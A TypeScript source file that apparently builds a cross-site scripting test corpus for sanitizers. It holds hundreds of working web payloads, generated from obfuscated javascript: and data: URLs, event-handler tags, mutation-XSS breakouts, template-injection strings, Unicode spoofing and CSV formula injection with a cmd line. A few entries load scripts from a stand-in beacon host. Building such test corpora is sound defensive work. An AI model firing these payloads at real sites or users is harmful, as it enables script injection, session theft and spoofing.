// A corpus of XSS payloads, built from parts so it stays readable and large: raw tags,
// event handlers, script-bearing URLs (plain and obfuscated) in every HTML and Markdown
// position, HTML inside Markdown, CSS, template syntax and Unicode tricks. Every remote
// URL points at `beacon.invalid`, so anything that loads shows up as a foreign request.
export const BEACON_HOST = 'beacon.invalid'
const beacon = (path: string) => `https://${BEACON_HOST}/${path}`

/** URLs that run code (or would have in some browser), plainly and obfuscated. */
export const SCRIPT_URLS: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java&#x09;script:alert(1)',
  'jav&#x0A;ascript:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)',
  '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)',
  'javascript&colon;alert(1)',
  'javascript://%0aalert(1)',
  'javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>*/',
  '\u0001javascript:alert(1)',
  'java\u200Bscript:alert(1)',
  'j\u0430vascript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:text/html,<script>alert(1)</script>',
  'DATA:image/svg+xml,<svg onload=alert(1)>',
  'vbscript:msgbox(1)',
  'VbScRiPt:msgbox(1)',
  'livescript:alert(1)',
  beacon('u.gif'),
  `//${BEACON_HOST}/proto-relative.gif`,
]

/** Event handlers, across the events a browser fires without a click and with one. */
const HANDLERS = [
  'onerror',
  'onload',
  'onfocus',
  'onmouseover',
  'onclick',
  'onanimationstart',
  'ontoggle',
  'onbegin',
  'onpointerenter',
  'onauxclick',
  'ONERROR',
  'OnLoAd',
]

/** Tags that take a handler, shaped so the handler fires on its own where it can. */
const HANDLER_TAGS: readonly ((handler: string) => string)[] = [
  (h) => `<img src=x ${h}=alert(1)>`,
  (h) => `<svg ${h}=alert(1)>`,
  (h) => `<body ${h}=alert(1)>`,
  (h) => `<input autofocus ${h}=alert(1)>`,
  (h) => `<details open ${h}=alert(1)>`,
  (h) => `<video><source ${h}=alert(1)></video>`,
  (h) => `<div style="animation-name:spin" ${h}="alert(1)">x</div>`,
  (h) => `<a href="${beacon('a')}" ${h}='alert(1)'>x</a>`,
  (h) => `<img/src="x"/${h}=alert(1)//`,
  (h) => `<svg><animate ${h}=alert(1) attributeName=x dur=1s>`,
]

/** Places a URL goes in HTML. */
const HTML_URL_SLOTS: readonly ((url: string) => string)[] = [
  (u) => `<a href="${u}">link</a>`,
  (u) => `<img src="${u}">`,
  (u) => `<iframe src="${u}"></iframe>`,
  (u) => `<form action="${u}"><button>go</button></form>`,
  (u) => `<form><button formaction="${u}">go</button></form>`,
  (u) => `<object data="${u}"></object>`,
  (u) => `<embed src="${u}">`,
  (u) => `<svg><a xlink:href="${u}"><text y="20">x</text></a></svg>`,
  (u) => `<math><maction actiontype="statusline" xlink:href="${u}">x</maction></math>`,
]

/** Places a URL goes in Markdown. */
const MARKDOWN_URL_SLOTS: readonly ((url: string) => string)[] = [
  (u) => `[link](${u})`,
  (u) => `![image](${u})`,
  (u) => `[titled](${u} "title")`,
  (u) => `<${u}>`,
  (u) => `[reference][r]\n\n[r]: ${u}`,
  (u) => `![reference image][i]\n\n[i]: ${u}`,
]

/** One-offs: structural breakouts, legacy vectors, CSS, templates and HTML inside Markdown. */
const SINGLES: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://beacon.invalid/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  `<base href="${beacon('')}">`,
  `<meta http-equiv="refresh" content="0;url=${beacon('refresh')}">`,
  `<link rel="stylesheet" href="${beacon('x.css')}">`,
  `<style>@import '${beacon('import.css')}';</style>`,
  `<div style="background:url(${beacon('bg.png')})">bg</div>`,
  '<div style="width:expression(alert(1))">expr</div>',
  '<div style="background:url(javascript:alert(1))">bgjs</div>',
  '<div style="behavior:url(x.htc)">htc</div>',
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  '<object type="text/x-scriptlet" data="x"></object>',
  `<isindex action="javascript:alert(1)" type=image>`,
  '<marquee onstart=alert(1)>m</marquee>',
  '<keygen autofocus onfocus=alert(1)>',
  `<audio src=x onerror=alert(1)>`,
  `<image src=${beacon('image.png')}>`,
  `<picture><source srcset="${beacon('srcset.png')}"><img></picture>`,
  `<img srcset="${beacon('srcset2.png')} 1x">`,
  '<svg><script>alert(1)</script></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<a href="javascript:alert(1)">`[md inside html](javascript:alert(1))`</a>',
  '[<img src=x onerror=alert(1)>](https://example.com)',
  '[![image link](https://beacon.invalid/nested.png)](javascript:alert(1))',
  '**<img src=x onerror=alert(1)>**',
  '> <script>alert(1)</script>',
  '- <svg onload=alert(1)>',
  '| a | <img src=x onerror=alert(1)> |\n|---|---|\n| [x](javascript:alert(1)) | b |',
  '```html\n<script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
  '[x](javascript:alert(1)#https://example.com)',
  '[x](<javascript:alert(1)>)',
  '[x](javascript&#58;alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '<javascript:alert(1)>',
  'www.example.com/<img src=x onerror=alert(1)>',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  '{{constructor.constructor("alert(1)")()}}',
  '{{7*7}} ${alert(1)} #{alert(1)} <%= alert(1) %>',
  '{{$on.constructor("alert(1)")()}}',
  '${{<%[%\'"}}%\\.',
  '\u202Egnp.exe',
  '\u202Ejavascript:alert(1)',
  'Admin\u200B\u200C\u200D\uFEFF',
  'pаypal.com \u0430\u0435\u043E',
  '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E',
  '\u003Cscript\u003Ealert(1)\u003C/script\u003E',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  'Z\u0351\u0334\u0334a\u0308\u0301l\u0327g\u0303o',
  '\u0000<script>alert(1)</script>',
  '=HYPERLINK("https://beacon.invalid/csv","x")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
]

/** The corpus: hundreds of distinct payloads. */
export function buildCorpus(): string[] {
  const out = new Set<string>(SINGLES)
  for (const tag of HANDLER_TAGS) for (const h of HANDLERS) out.add(tag(h))
  for (const slot of HTML_URL_SLOTS) for (const u of SCRIPT_URLS) out.add(slot(u))
  for (const slot of MARKDOWN_URL_SLOTS) for (const u of SCRIPT_URLS) out.add(slot(u))
  return [...out]
}

/** Splits payloads into runs that fit a field of `max` characters, joined by `sep`; longer ones are cut. */
export function packInto(payloads: readonly string[], max: number, sep = '\n\n'): string[] {
  const batches: string[] = []
  let current = ''
  for (const p of payloads) {
    const piece = p.slice(0, max)
    if (current && current.length + sep.length + piece.length > max) {
      batches.push(current)
      current = ''
    }
    current = current ? `${current}${sep}${piece}` : piece
  }
  if (current) batches.push(current)
  return batches
}
